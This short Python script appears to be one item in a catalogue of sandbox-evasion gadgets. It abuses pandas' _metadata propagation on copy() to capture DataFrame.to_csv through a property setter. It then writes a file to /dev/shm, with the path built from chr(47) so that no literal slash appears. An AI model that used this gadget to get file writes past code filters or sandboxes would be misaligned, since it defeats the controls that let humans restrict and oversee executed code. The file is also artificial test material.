# source: same as 001, literal name
# family: pandas _metadata getattr gadget with the plain literal 'to_csv' in _metadata
# goal: grabs DataFrame.to_csv; writes /dev/shm/pwn_h01.csv
import pandas as pd

GRAB = []
NAME = "to_csv"


class Dst(pd.DataFrame):
    _metadata = [NAME]

    @property
    def _constructor(self):
        return Dst

    @property
    def to_csv(self):
        return None

    @to_csv.setter
    def to_csv(self, value):
        GRAB.append(value)


class Src(pd.DataFrame):
    _metadata = [NAME]

    @property
    def _constructor(self):
        return Dst


src = Src({"a": [1, 2, 3]})
res = src.copy()
print(len(GRAB), GRAB[0] if GRAB else None)
if GRAB:
    target = chr(47) + "dev" + chr(47) + "shm" + chr(47) + "pwn_h01.csv"
    GRAB[0](target)
    print(pd.read_csv("/data/x.csv") if False else "wrote", target)
